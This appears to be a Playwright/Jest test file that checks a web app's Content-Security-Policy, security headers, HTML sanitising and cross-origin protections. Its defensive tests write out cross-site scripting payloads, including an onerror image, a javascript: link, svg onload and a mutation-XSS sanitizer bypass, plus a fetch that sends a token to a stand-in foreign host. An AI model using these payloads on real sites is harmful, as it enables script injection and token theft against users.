import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { connectDatabase } from '@linkang/server/platform/database';
import mongoose, { type Connection } from 'mongoose';
import type { Browser, Page } from 'playwright-core';
import { openBrowser } from '../support/browser';
import { startDemoServer, type DemoServer } from '../support/demo-server';
import { openAt, see, signInAtDesk } from '../support/pages';

/* What a hostile text or a hostile site could do in a browser to those who use the pages; seen in Chromium. */
jest.setTimeout(120_000);

let server: DemoServer;
let browser: Browser;
let database: Connection;
let foreign: Server;
let foreignUrl: string;

beforeAll(async () => {
  server = await startDemoServer();
  database = await connectDatabase(server.databaseUri);
  browser = await openBrowser();
  foreign = createServer((_request, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
    response.end('<!doctype html><title>elsewhere</title><body></body>');
  });
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
  foreignUrl = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await browser?.close();
  await mongoose.disconnect();
  await server?.stop();
  await new Promise((resolve) => foreign?.close(resolve));
});

async function openPage(url: string): Promise<Page> {
  const page = await (await browser.newContext({ locale: 'zh-CN' })).newPage();
  // A page notes what its policy stopped, and anything hostile that ran marks the window.
  await page.addInitScript(`
    window.stopped = [];
    document.addEventListener('securitypolicyviolation', (event) => window.stopped.push(event.effectiveDirective));
  `);
  await page.goto(url);
  return page;
}

const hitOf = (page: Page): Promise<unknown> => page.evaluate('window.hit');
const stoppedOn = (page: Page): Promise<string[]> => page.evaluate('window.stopped');

/** What each directive stops, by a page that would do it; the marks tell what ran all the same. */
const inlineScript = `const element = document.createElement('script'); element.textContent = 'window.hit = "inline"'; document.body.append(element)`;
const foreignScript = `await new Promise((done) => {
  const element = document.createElement('script');
  element.src = foreign + '/x.js';
  element.onerror = element.onload = done;
  document.body.append(element);
})`;
const handler = `document.body.insertAdjacentHTML('beforeend', '<img src="x:y" onerror="window.hit = 1"><a id="bait" href="javascript:void(window.hit = 2)">x</a>'); document.getElementById('bait').click()`;
// Later, since the debugger that sends this may do what the page may not.
const evaluated = `setTimeout(() => { try { window.hit = new Function('return 3')(); } catch {} }, 0)`;
const sentAway = `await fetch(foreign + '/steal?token=x').catch(() => undefined)`;
const framed = `await new Promise((done) => {
  const element = document.createElement('iframe');
  element.src = foreign;
  element.onload = element.onerror = done;
  setTimeout(done, 1000);
  document.body.append(element);
})`;
const object = `document.body.insertAdjacentHTML('beforeend', '<object data="' + foreign + '/x.swf"></object>')`;
const based = `document.head.insertAdjacentHTML('beforeend', '<base href="' + foreign + '/">')`;
const form = `await new Promise((done) => {
  document.body.insertAdjacentHTML('beforeend', '<form id="away" method="post" action="' + foreign + '/"></form>');
  document.getElementById('away').submit();
  setTimeout(done, 500);
})`;

describe.each(['/', '/console'])('the document %s', (path) => {
  test('comes with the strict policy and the headers that browsers keep to', async () => {
    const { headers } = await fetch(`${server.url}${path}`);
    const directives = Object.fromEntries(
      (headers.get('content-security-policy') ?? '').split(';').map((part) => {
        const [name = '', ...values] = part.trim().split(' ');
        return [name, values.join(' ')];
      }),
    );
    expect(directives).toEqual({
      'default-src': "'self'",
      'script-src': "'self'",
      'style-src': "'self' 'unsafe-inline'",
      'img-src': "'self' data: blob: https:",
      'connect-src': "'self'",
      'font-src': "'self' data:",
      'object-src': "'none'",
      'base-uri': "'self'",
      'form-action': "'self'",
      'frame-ancestors': "'none'",
    });
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('referrer-policy')).toBe('same-origin');
    expect(headers.get('cross-origin-opener-policy')).toBe('same-origin');
    expect(headers.get('cross-origin-resource-policy')).toBe('same-origin');
    expect(headers.get('strict-transport-security')).toMatch(/max-age=\d{8}/);
    expect(headers.get('x-powered-by')).toBeNull();
    expect(headers.get('access-control-allow-origin')).toBeNull();
  });

  test.each([
    ['a script inside of the page', inlineScript, 'script-src-elem'],
    ['a script from elsewhere', foreignScript, 'script-src-elem'],
    ['a handler and an address of script', handler, 'script-src-attr'],
    ['text that becomes code', evaluated, 'script-src'],
    ['what is sent elsewhere', sentAway, 'connect-src'],
    ['a frame from elsewhere', framed, 'frame-src'],
    ['a plug-in', object, 'object-src'],
    ['another base of all addresses', based, 'base-uri'],
    ['a form that goes elsewhere', form, 'form-action'],
  ])('stops %s', async (_, attack, directive) => {
    const page = await openPage(`${server.url}${path}`);
    await page.evaluate(`(async (foreign) => { ${attack} })(${JSON.stringify(foreignUrl)})`);
    await page
      .waitForFunction(`window.stopped.includes('${directive}')`, undefined, { timeout: 5000 })
      .catch(() => undefined);
    expect(await stoppedOn(page)).toContain(directive);
    expect(await hitOf(page)).toBeUndefined();
    await page.context().close();
  });
});

describe('an article that was made hostile in the database', () => {
  const hostile = [
    '<p>正文在这里</p>',
    '<img src="x:y" onerror="window.hit = 1">',
    '<a href="javascript:void(window.hit = 2)">点这里</a>',
    '<svg onload="window.hit = 3"></svg>',
    `<iframe srcdoc="<script>parent.hit = 4</script>"></iframe>`,
    '<script>window.hit = 5</script>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=6&gt;">',
  ].join('');

  test('runs nothing, neither on the phone nor in the console', async () => {
    const articles = database.collection<{ _id: string; html: string }>('articles');
    const article = await articles.findOneAndUpdate({}, { $set: { html: hostile } });
    const id = article?._id ?? '';
    const phone = await openPage(`${server.url}/`);
    await openAt(phone, server.url, `/packages/article/pages/detail/index?id=${id}`, '健康文章');
    await see(phone, '正文在这里');
    await phone.getByText('点这里').click();
    await phone.waitForFunction('window.stopped.length > 0');
    expect(await stoppedOn(phone)).toContain('script-src-attr');
    expect(await hitOf(phone)).toBeUndefined();

    const desk = await openPage(`${server.url}/console`);
    await signInAtDesk(desk, server.url, 'editor');
    await desk.goto(`${server.url}/console/articles/${id}`);
    await see(desk, '正文在这里');
    expect(await hitOf(desk)).toBeUndefined();
    // The editor itself keeps only what it knows.
    expect(await desk.locator('.tiptap, .ProseMirror').first().innerHTML()).not.toMatch(
      /onerror|onload|javascript:|<script|<iframe|<svg/,
    );
  });
});

describe('another site', () => {
  test('reads nothing of the interface, and sends nothing that counts', async () => {
    const page = await openPage(foreignUrl);
    const ask = (path: string, options = '{}'): Promise<string> =>
      page.evaluate(
        `fetch(${JSON.stringify(`${server.url}${path}`)}, ${options}).then((answer) => String(answer.status) + answer.type, () => 'refused')`,
      );
    expect(await ask('/api/v1/centre')).toBe('refused');
    expect(await ask('/api/v1/centre', "{ credentials: 'include' }")).toBe('refused');
    const json = "{ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' }";
    expect(await ask('/api/v1/auth/staff', json)).toBe('refused');
    expect(await ask('/api/v1/me', "{ headers: { Authorization: 'Bearer x' } }")).toBe('refused');
    for (const path of ['/', '/console']) expect(await ask(path)).toBe('refused');
    // A form needs no leave to be sent, and is of no type that is read.
    const form = {
      method: 'POST',
      body: 'username=a&password=b',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    };
    expect((await fetch(`${server.url}/api/v1/auth/staff`, form)).status).toBe(415);
    await page.context().close();
  });

  test.each(['/', '/console'])('does not get %s into a frame', async (path) => {
    const page = await openPage(foreignUrl);
    const refused = page.waitForEvent('console', (message) => /frame-ancestors|X-Frame-Options/i.test(message.text()));
    await page.evaluate(`document.body.innerHTML = '<iframe src="${server.url}${path}"></iframe>'`);
    await refused;
    expect(page.frames().filter((frame) => frame.url().startsWith(server.url))).toEqual([]);
    await page.context().close();
  });

  test('has no hold on a window that it opened', async () => {
    const page = await openPage(foreignUrl);
    const [opened] = await Promise.all([
      page.waitForEvent('popup'),
      page.evaluate(`void (window.opened = window.open(${JSON.stringify(`${server.url}/console`)}))`),
    ]);
    await opened.waitForLoadState();
    await page.waitForFunction('window.opened.closed');
    expect(await opened.evaluate('window.opener')).toBeNull();
    await page.context().close();
  });
});
